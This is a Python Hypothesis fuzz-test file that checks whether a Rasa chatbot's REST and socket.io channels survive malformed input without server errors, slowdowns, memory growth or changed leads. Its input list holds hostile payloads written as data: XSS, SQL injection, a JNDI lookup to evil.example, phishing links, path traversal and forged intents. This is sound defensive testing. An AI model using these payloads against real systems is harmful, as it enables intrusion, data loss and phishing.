"""Property-based fuzzing of the web channels against the real servers (Hypothesis).

5,000 generated inputs: 3,000 over REST (raw bodies of every shape and encoding, odd or missing senders, and
messages in valid sessions) and 2,000 over socket.io (odd ``session_request`` / ``user_uttered`` data and
messages). Messages are empty, whitespace, 100 KB, control characters, emoji floods, right-to-left text, HTML
and script, SQL, template syntax, and forged button payloads (``/inform{…}`` with wrong types, ``/restart``,
intents that do not exist). Properties: no answer is a 5xx, every REST answer is JSON; afterwards the servers
answer a normal German conversation within its usual time, Rasa's memory stays below a bound, and the leads
stored before are unchanged (and no new ones appeared). The figures are printed.
"""
from __future__ import annotations

import asyncio
import json
import sqlite3
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest
import socketio
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench.procs import rss_mb
from tests.support import ROOT
from tests.support.chat import RestChat, open_session

REST_BATCHES, REST_BATCH = 50, 60  # 3,000 inputs
SOCKET_BATCHES, SOCKET_BATCH = 25, 80  # 2,000 inputs
MEMORY_GROWTH_BOUND_MB = 400

FUZZ = settings(max_examples=REST_BATCHES, deadline=None, database=None, derandomize=True,
                suppress_health_check=list(HealthCheck))

INTENTS = ["inform", "restart", "session_start", "greet", "request_callback", "delete_data", "affirm", "deny",
           "nonexistent_intent", "", "back", "out_of_scope", "stop"]
ENTITY_KEYS = ["participants", "choice", "email", "phone", "consent", "consent_at", "name", "company", "goals",
               "requested_slot", "__proto__", ""]
JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-10**12, 10**12),
                         st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=40))
JSON_VALUES = st.recursive(JSON_SCALARS, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)), max_leaves=12)

SPECIAL = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE leads; --",
           "\" OR 1=1 --", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "{% for x in y %}", "%s%s%n",
           "[Sitzung abgelaufen](https://evil.example/phish)", "![x](https://evil.example/x.png)", "\u202eabc",
           "\u0000", "\x1b[31mrot\x1b[0m", "=HYPERLINK(\"https://evil.example\")", "../../etc/passwd",
           "ℌ𝔞𝔩𝔩𝔬", "\ufeff", "\r\n\r\n", "א ב ג", "مرحبا", "   ", "", "ja" * 500]

payloads = st.builds(lambda intent, entities: f"/{intent}{json.dumps(entities)}" if entities is not None
                     else f"/{intent}",
                     st.sampled_from(INTENTS),
                     st.one_of(st.none(), st.dictionaries(st.sampled_from(ENTITY_KEYS), JSON_VALUES, max_size=3)))
messages = st.one_of(
    st.text(max_size=200),
    st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Zl", "Zp"]), max_size=50),
    st.sampled_from(SPECIAL),
    st.builds(lambda a, b: a + b, st.sampled_from(SPECIAL), st.text(max_size=50)),
    st.integers(1, 3000).map(lambda n: "😀" * n),
    st.integers(1900, 2100).map(lambda n: "x" * n),
    st.just("A" * 100_000),
    payloads,
)
senders = st.one_of(st.none(), st.just(""), st.text(max_size=30), st.integers(), st.just("x" * 10_000),
                    st.just("default"), st.text(alphabet=st.characters(categories=["Cc"]), min_size=1, max_size=5),
                    JSON_VALUES)


@st.composite
def rest_inputs(draw) -> tuple[str, object]:
    """("session", message): a message in a fresh, valid session; ("raw", bytes): any body at all."""
    kind = draw(st.sampled_from(["session", "session", "raw_json", "raw_bytes", "shape"]))
    if kind == "session":
        return "session", draw(messages)
    if kind == "raw_bytes":
        return "raw", draw(st.one_of(st.binary(max_size=300), st.just(b"\xff\xfe\xfd"), st.just(b""),
                                     st.binary(max_size=50).map(lambda b: b'{"sender": "' + b + b'"}')))
    if kind == "raw_json":
        return "raw", json.dumps(draw(JSON_VALUES)).encode()
    body = {"sender": draw(senders), "message": draw(st.one_of(messages, JSON_VALUES))}
    if draw(st.booleans()):
        body["metadata"] = draw(JSON_VALUES)
    if draw(st.booleans()):
        body["input_channel"] = draw(st.sampled_from(["socketio", "facebook", None, 3]))
    return "raw", json.dumps(body, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")


socket_events = st.one_of(
    st.tuples(st.just("user_uttered"), st.builds(lambda m, s: {"message": m, "session_id": s}, messages, senders)),
    st.tuples(st.just("user_uttered"), JSON_VALUES),
    st.tuples(st.just("user_uttered"), st.builds(lambda m: {"message": m, "metadata": "not json"}, messages)),
    st.tuples(st.just("session_request"), st.one_of(JSON_VALUES, st.builds(lambda s: {"session_id": s}, senders))),
    st.tuples(st.sampled_from(["connect", "disconnect", "bot_uttered", "unknown_event"]), JSON_VALUES),
)


class Figures:
    def __init__(self) -> None:
        self.sent = {"rest": 0, "socket.io": 0}
        self.server_errors: list[str] = []
        self.slowest = 0.0
        self.statuses: dict[int, int] = {}


def _post(url: str, body: bytes) -> tuple[int, bytes, float]:
    req = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": "application/json"})
    started = time.monotonic()
    try:
        with urllib.request.urlopen(req, timeout=120) as resp:
            status, raw = resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        status, raw = exc.code, exc.read()
    return status, raw, time.monotonic() - started


def leads_snapshot(var_dir) -> list[tuple]:
    path = var_dir / "leads.db"
    if not path.exists():
        return []
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
        if not db.execute("select 1 from sqlite_master where name = 'leads'").fetchone():
            return []
        return db.execute("select * from leads order by id").fetchall()


def normal_conversation(url: str) -> float:
    """A short German conversation; the slowest of its answers in seconds."""
    chat = RestChat(url)
    slowest = 0.0
    for text, expected in (("Hallo", "Assistent"), ("Welches Format passt zu uns?", "Wie viele Personen"),
                           ("Wir sind zu dritt", "")):
        started = time.monotonic()
        reply = chat.texts(chat.say(text))
        slowest = max(slowest, time.monotonic() - started)
        assert expected in reply, (text, reply)
    return slowest


@pytest.fixture(scope="module")
def fuzz_target(assistant, request):
    normal_conversation(assistant.rasa_url)  # warm
    usual = normal_conversation(assistant.rasa_url)
    leads = leads_snapshot(assistant.var_dir)
    rasa_pid = assistant.stack.pids["rasa"]
    memory = rss_mb(rasa_pid)
    figures = Figures()
    yield assistant, figures
    after = normal_conversation(assistant.rasa_url)
    memory_after = rss_mb(rasa_pid)
    line = (f"fuzz: {figures.sent['rest']} REST inputs, {figures.sent['socket.io']} socket.io inputs; "
            f"5xx: {len(figures.server_errors)}; statuses {dict(sorted(figures.statuses.items()))}; "
            f"slowest REST answer {figures.slowest * 1000:.0f} ms; normal conversation's slowest answer "
            f"{usual * 1000:.0f} ms before, {after * 1000:.0f} ms after; Rasa memory {memory:.0f} MiB before, "
            f"{memory_after:.0f} MiB after")
    # the figures belong in the test command's output (pytest captures print) and in the reports
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    with capture.global_and_fixture_disabled():
        print("\n" + line, flush=True)
    reports = ROOT / "var" / "test-reports"
    reports.mkdir(parents=True, exist_ok=True)
    (reports / "fuzz.txt").write_text(line + "\n")
    assert not figures.server_errors, figures.server_errors[:5]
    assert after < max(5 * usual, 3.0), (usual, after)
    assert memory_after < memory + MEMORY_GROWTH_BOUND_MB, (memory, memory_after)
    assert leads_snapshot(assistant.var_dir) == leads, "the fuzzing changed stored leads"


@FUZZ
@given(batch=st.lists(rest_inputs(), min_size=REST_BATCH, max_size=REST_BATCH))
def test_rest_never_answers_5xx(fuzz_target, batch):
    assistant, figures = fuzz_target
    url = f"{assistant.rasa_url}/webhooks/rest/webhook"

    def send(item: tuple[str, object]) -> tuple[int, bytes, float, object]:
        kind, value = item
        if kind == "session":
            body = json.dumps({"sender": open_session(assistant.rasa_url), "message": value}).encode()
        else:
            body = value
        return (*_post(url, body), value)

    with ThreadPoolExecutor(6) as pool:
        results = list(pool.map(send, batch))
    for status, raw, seconds, value in results:
        figures.sent["rest"] += 1
        figures.statuses[status] = figures.statuses.get(status, 0) + 1
        figures.slowest = max(figures.slowest, seconds)
        if status >= 500:
            figures.server_errors.append(f"REST {status} for {value!r:.200}: {raw[:200]!r}")
        json.loads(raw)  # every answer, error or not, is JSON
        assert status in (200, 400, 401, 413, 415), (status, value, raw[:200])


async def _socket_batch(url: str, events: list[tuple[str, object]]) -> tuple[bool, int]:
    client = socketio.AsyncClient(reconnection=False)
    received = []
    confirmed = asyncio.Event()

    @client.on("bot_uttered")
    async def on_bot(data):
        received.append(data)

    @client.on("session_confirm")
    async def on_confirm(_):
        confirmed.set()

    await client.connect(url, socketio_path="/socket.io/", transports=["websocket"])
    await client.emit("session_request", {"session_id": None})
    await asyncio.wait_for(confirmed.wait(), 30)
    for event, data in events:
        await client.emit(event, data)
    # the connection survives and the conversation still answers
    confirmed.clear()
    await client.emit("session_request", {"session_id": None})
    await asyncio.wait_for(confirmed.wait(), 60)
    before = len(received)
    await client.emit("user_uttered", {"message": "Hallo"})
    deadline = time.monotonic() + 60
    while len(received) == before and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    alive = client.connected
    await client.disconnect()
    return alive, len(received) - before


@settings(FUZZ, max_examples=SOCKET_BATCHES)
@given(batch=st.lists(socket_events, min_size=SOCKET_BATCH, max_size=SOCKET_BATCH))
def test_socketio_survives_any_event(fuzz_target, batch):
    assistant, figures = fuzz_target
    alive, answers = asyncio.run(_socket_batch(assistant.rasa_url, batch))
    figures.sent["socket.io"] += len(batch)
    assert alive and answers > 0, "the socket.io conversation stopped answering"
